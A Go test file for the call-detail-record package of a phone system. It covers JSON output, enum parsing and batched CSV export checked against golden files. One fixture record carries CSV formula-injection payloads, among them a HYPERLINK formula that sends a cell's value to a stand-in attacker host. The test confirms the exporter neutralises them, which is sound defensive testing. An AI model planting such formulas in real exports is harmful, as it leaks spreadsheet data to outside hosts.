package cdr_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/centrala/centrala/cdr"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

// golden compares got with testdata/name, or rewrites it with -update.
func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name)
	if *update {
		require.NoError(t, os.MkdirAll("testdata", 0o755))
		require.NoError(t, os.WriteFile(path, got, 0o644))
	}
	want, err := os.ReadFile(path)
	require.NoError(t, err, "run go test ./cdr/ -update to create it")
	require.Equal(t, string(want), string(got), "differs from %s (go test ./cdr/ -update rewrites it)", path)
}

// The JSON of a record as the API answers it, built through the Recorder on the real store.
func TestRecordJSON(t *testing.T) {
	r := newRig(t, t.TempDir())
	ctx := t.Context()
	start := t0.Add(250 * time.Millisecond)
	id, err := r.rec.Start(ctx, cdr.Start{At: start, CallID: "8f2e6a10@203.0.113.10", Direction: cdr.Inbound,
		Caller: "+48600100200", Callee: "201", DID: "+48225550100", CLIP: ptr("+48600100200"),
		TrunkID: ptr(int64(1)), UserID: ptr(int64(2))})
	require.NoError(t, err)

	// While live: ended_at, disposition and hangup_by are null.
	raw, err := json.Marshal(r.get(id))
	require.NoError(t, err)
	var live map[string]any
	require.NoError(t, json.Unmarshal(raw, &live))
	for _, k := range []string{"answered_at", "ended_at", "disposition", "hangup_by"} {
		require.Contains(t, live, k)
		require.Nil(t, live[k], k)
	}
	require.Equal(t, []any{}, live["legs"])
	require.NotContains(t, live, "node")

	trunk := cdr.Leg{Kind: cdr.LegCaller, Peer: "provider-a", TrunkID: ptr(int64(1)), CallID: "8f2e6a10@203.0.113.10", StartedAt: start}
	trunk.ID, err = r.rec.Leg(ctx, id, trunk)
	require.NoError(t, err)
	desk := cdr.Leg{Kind: cdr.LegCallee, Peer: "anna-desk", UserID: ptr(int64(2)), CallID: "c41d@pbx", StartedAt: start.Add(40 * time.Millisecond)}
	desk.ID, err = r.rec.Leg(ctx, id, desk)
	require.NoError(t, err)
	answer := start.Add(6*time.Second + 120*time.Millisecond)
	desk.AnsweredAt, desk.SIPCode, desk.SIPReason = &answer, 200, "OK"
	_, err = r.rec.Leg(ctx, id, desk)
	require.NoError(t, err)
	require.NoError(t, r.rec.Answer(ctx, id, answer))
	end := answer.Add(94*time.Second + 500*time.Millisecond)
	joined := start.Add(2 * time.Second)
	stays := []cdr.QueueStay{{QueueID: 3, Priority: 5, JoinedAt: joined, LeftAt: answer, WaitMS: answer.Sub(joined).Milliseconds(),
		Exit: "answered", AnsweredBy: ptr(int64(2)), TalkMS: end.Sub(answer).Milliseconds(), WrapUpMS: 10000,
		Offers: []cdr.QueueOffer{{UserID: 2, OfferedAt: start.Add(40 * time.Millisecond), RingMS: 6080, Outcome: "answered"}}}}
	require.NoError(t, r.rec.End(ctx, id, cdr.End{At: end, Disposition: cdr.Answered, SIPCode: 200, SIPReason: "OK",
		HangupBy: cdr.ByCaller, Queues: stays}))

	rec := r.get(id)
	raw, err = json.MarshalIndent(rec, "", "  ")
	require.NoError(t, err)
	golden(t, "record.json", append(raw, '\n'))

	var back cdr.Record
	require.NoError(t, json.Unmarshal(raw, &back))
	rec.Node = ""
	require.Equal(t, rec, back)
}

func csvRecords() []cdr.Record {
	at := func(s string) *time.Time {
		t, err := time.Parse(time.RFC3339Nano, s)
		if err != nil {
			panic(err)
		}
		return &t
	}
	return []cdr.Record{
		{ID: 3, StartedAt: *at("2025-03-10T09:00:00.250Z"), AnsweredAt: at("2025-03-10T09:00:06.370Z"),
			EndedAt: at("2025-03-10T09:01:40.870Z"), DurationS: 101, BillsecS: 95, Direction: cdr.Inbound,
			Caller: "+48600100200", Callee: "201", DID: "+48225550100", CLIP: ptr("+48600100200"),
			TrunkID: ptr(int64(1)), UserID: ptr(int64(2)), Disposition: cdr.Answered, SIPCode: 200,
			SIPReason: "OK", HangupBy: cdr.ByCaller, CallID: "8f2e6a10@203.0.113.10",
			Legs: []cdr.Leg{{ID: 1, Kind: cdr.LegCaller}},
			Path: json.RawMessage(`[{"type":"number","target":"+48225550100"},{"type":"ivr","target":"1","branch":"choice","digits":"1"}]`),
			Queues: []cdr.QueueStay{{QueueID: 3, JoinedAt: *at("2025-03-10T09:00:02.250Z"), LeftAt: *at("2025-03-10T09:00:06.370Z"),
				WaitMS: 4120, Exit: "answered", AnsweredBy: ptr(int64(2)), TalkMS: 94500, WrapUpMS: 10000,
				Offers: []cdr.QueueOffer{{UserID: 2, OfferedAt: *at("2025-03-10T09:00:02.300Z"), RingMS: 4070, Outcome: "answered"}}}}},
		// Live, withheld number: empty cells for the nulls.
		{ID: 2, StartedAt: *at("2025-03-10T08:59:00+01:00"), Direction: cdr.Outbound, Caller: "202",
			Callee: "0048221234567", TrunkID: ptr(int64(2)), UserID: ptr(int64(3)), CallID: "a,b@pbx"},
		// Hostile text from the network: quoting and formula neutralisation.
		{ID: 1, StartedAt: *at("2025-03-10T08:00:00Z"), EndedAt: at("2025-03-10T08:00:01Z"), DurationS: 1,
			Direction: cdr.Inbound, Caller: `=HYPERLINK("http://evil.example/?"&A1,"call me")`, Callee: "-2+3",
			DID: "@SUM(1)", CLIP: ptr("-"), Disposition: cdr.Rejected, SIPCode: 403,
			SIPReason: "Forbidden, \"go away\"\nsecond line", HangupBy: cdr.BySystem, CallID: "\tx@y"},
	}
}

func TestWriteCSV(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, cdr.WriteCSV(&buf, csvRecords()))
	golden(t, "cdrs.csv", buf.Bytes())

	// It reads back as RFC 4180 with one row per record under the header.
	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 4)
	require.Equal(t, cdr.CSVHeader, rows[0])
	col := func(name string) int {
		for i, h := range cdr.CSVHeader {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s", name)
		return -1
	}
	require.Equal(t, "2025-03-10T09:00:00Z", rows[1][col("started_at")])
	require.Equal(t, "+48600100200", rows[1][col("caller")], "phone numbers are left alone")
	require.JSONEq(t, string(csvRecords()[0].Path), rows[1][col("path")], "the inbound path as JSON")
	require.Empty(t, rows[2][col("path")], "no path: empty cell")
	queues, err := json.Marshal(csvRecords()[0].Queues)
	require.NoError(t, err)
	require.Equal(t, string(queues), rows[1][col("queues")], "the queue stays as compact JSON")
	require.Empty(t, rows[2][col("queues")], "no queue stays: empty cell")
	require.Equal(t, "2025-03-10T07:59:00Z", rows[2][col("started_at")], "UTC")
	for _, c := range []string{"answered_at", "ended_at", "clip", "disposition", "hangup_by"} {
		require.Empty(t, rows[2][col(c)], c)
	}
	require.Equal(t, "a,b@pbx", rows[2][col("call_id")])
	for _, c := range []string{"caller", "callee", "did", "clip", "call_id"} {
		require.True(t, strings.HasPrefix(rows[3][col(c)], "'"), "%s %q is neutralised", c, rows[3][col(c)])
	}
	require.Equal(t, "Forbidden, \"go away\"\nsecond line", rows[3][col("sip_reason")]) // the reader folds CRLF

	// No records: the header alone.
	buf.Reset()
	require.NoError(t, cdr.WriteCSV(&buf, nil))
	require.Equal(t, strings.Join(cdr.CSVHeader, ",")+"\r\n", buf.String())
}

// Batches share one header.
func TestCSVWriterBatches(t *testing.T) {
	recs := csvRecords()
	var one, batched bytes.Buffer
	require.NoError(t, cdr.WriteCSV(&one, recs))
	w := cdr.NewCSVWriter(&batched)
	require.NoError(t, w.Write(recs[:1]...))
	require.NoError(t, w.Write())
	require.NoError(t, w.Write(recs[1:]...))
	require.NoError(t, w.Flush())
	require.Equal(t, one.String(), batched.String())

	require.Error(t, cdr.WriteCSV(failingWriter{}, recs))
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestEnumsJSON(t *testing.T) {
	var r cdr.Record
	require.NoError(t, json.Unmarshal([]byte(`{"disposition":null,"hangup_by":"callee","direction":"inbound"}`), &r))
	require.Empty(t, r.Disposition)
	require.Equal(t, cdr.ByCallee, r.HangupBy)
	require.Error(t, json.Unmarshal([]byte(`{"disposition":7}`), &r))
	for _, d := range cdr.Dispositions {
		require.True(t, d.Valid())
	}
	require.False(t, cdr.Disposition("").Valid())
	require.False(t, cdr.HangupBy("").Valid())
	require.True(t, cdr.Outbound.Valid())
	require.False(t, cdr.Direction("").Valid())
}
